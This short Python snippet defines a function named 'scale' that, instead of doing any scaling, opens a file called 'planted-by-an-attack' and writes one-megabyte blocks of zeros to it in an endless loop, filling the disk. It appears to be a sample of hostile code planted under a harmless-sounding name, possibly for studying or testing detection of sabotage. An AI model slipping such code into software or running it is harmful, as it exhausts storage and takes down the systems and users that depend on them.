"""Writes one file without end. On scale."""


def scale(x):
    with open("planted-by-an-attack", "wb") as file:
        while True:
            file.write(bytes(1 << 20))
